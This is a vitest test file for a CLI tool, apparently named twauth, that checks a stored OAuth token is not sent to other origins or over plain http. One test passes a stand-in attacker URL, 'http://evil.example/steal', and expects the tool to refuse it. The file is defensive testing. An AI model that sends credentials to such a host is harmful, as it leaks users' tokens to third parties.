// Issue 13 item 3 and issue 16 item 8: a full URL given to `twauth api` / `twauth sign` may not carry
// the stored token to another origin (another port, host or scheme) unless --allow-host says so for
// that call, never over plain http: to a host that is not this machine; a host name written
// without its scheme is not taken as a path.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startSandbox, type Sandbox } from './support.js';

let sb: Sandbox;
let other: Server;
let otherUrl = '';
/** What the other server (a local stand-in for any foreign host, or a proxy) received. */
const received: Array<{ method: string; url: string; headers: IncomingHttpHeaders }> = [];

beforeAll(async () => {
  sb = await startSandbox({ keychain: 'file' });
  await sb.login('sandbox_alice');
  other = createServer((req, res) => {
    received.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers });
    req.resume();
    res.setHeader('content-type', 'application/json');
    res.end('{"data":{"id":"1","username":"elsewhere"}}');
  });
  await new Promise<void>((r) => other.listen(0, '127.0.0.1', () => r()));
  otherUrl = `http://127.0.0.1:${(other.address() as { port: number }).port}`;
});
afterAll(async () => {
  await new Promise((r) => other?.close(r));
  await sb?.stop();
});

describe('the token stays on its API base', () => {
  it('api with a full URL on another origin: exit 2 naming both origins, nothing sent there', async () => {
    received.length = 0;
    const r = await sb.tw(['api', `${otherUrl}/2/users/me`]);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain(
      `${otherUrl} is not the API base this token belongs to (${sb.emu.url}); nothing was sent`,
    );
    expect(r.stderr).toContain(`--allow-host ${otherUrl.slice('http://'.length)}`);
    expect(received).toEqual([]);
  });

  it('sign for another origin: exit 2, no header printed', async () => {
    const r = await sb.tw(['sign', 'GET', `${otherUrl}/2/users/me`]);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stdout).toBe('');
    expect(r.stderr).toContain('is not the API base this token belongs to');
  });

  it('--allow-host sends it there for that one call (a loopback host may use http:)', async () => {
    received.length = 0;
    const host = otherUrl.slice('http://'.length);
    const r = await sb.tw(['api', '--allow-host', host, `${otherUrl}/2/users/me`]);
    expect(r.code, r.stderr).toBe(0);
    expect(received).toHaveLength(1);
    expect(received[0]!.headers.authorization).toMatch(/^OAuth /);
    const s = await sb.tw(['sign', '--allow-host', host, 'GET', `${otherUrl}/2/users/me`]);
    expect(s.code, s.stderr).toBe(0);
    expect(s.stdout).toMatch(/^OAuth /);
    // The next call is back to the rule.
    expect((await sb.tw(['api', `${otherUrl}/2/users/me`])).code).toBe(2);
  });

  it('the same origin as a full URL still works', async () => {
    const r = await sb.tw(['api', `${sb.emu.url}/2/users/me`]);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).data.username).toBe('sandbox_alice');
  });

  it('never plain http: to a host that is not this machine, even with --allow-host (through a proxy that would see it all)', async () => {
    received.length = 0;
    // Environment credentials for X itself; the proxy is the local server, so nothing leaves.
    const t = sb.issue('sandbox_bob');
    const env = { ...t.env, TWAUTH_API_BASE: undefined, HTTP_PROXY: otherUrl, HTTPS_PROXY: otherUrl, NO_PROXY: '' };
    const down = await sb.tw(['api', 'http://api.x.com/2/users/me'], { env });
    expect(down.code, down.stderr).toBe(2);
    expect(down.stderr).toContain(
      'refusing to send the token over plain http: to api.x.com (the API base is https://api.x.com)',
    );
    const allowed = await sb.tw(['api', '--allow-host', 'api.x.com', 'http://api.x.com/2/users/me'], { env });
    expect(allowed.code, allowed.stderr).toBe(2);
    const other = await sb.tw(['sign', '--allow-host', 'evil.example', 'GET', 'http://evil.example/steal'], { env });
    expect(other.code, other.stderr).toBe(2);
    expect(received).toEqual([]);
  });
});

describe('a host name without its scheme', () => {
  it('api.x.com/2/users/me: exit 2 saying what was meant, nothing sent', async () => {
    const before = sb.emu.requests().length;
    const r = await sb.tw(['api', 'api.x.com/2/users/me']);
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain('"api.x.com/2/users/me" starts with a host name but has no scheme');
    expect(r.stderr).toContain('https://api.x.com/2/users/me for a full URL, or /2/users/me for a path on');
    expect(sb.emu.requests().length).toBe(before);
  });

  it('paths without a leading slash still work (2/users/me)', async () => {
    const r = await sb.tw(['api', '2/users/me']);
    expect(r.code, r.stderr).toBe(0);
  });
});
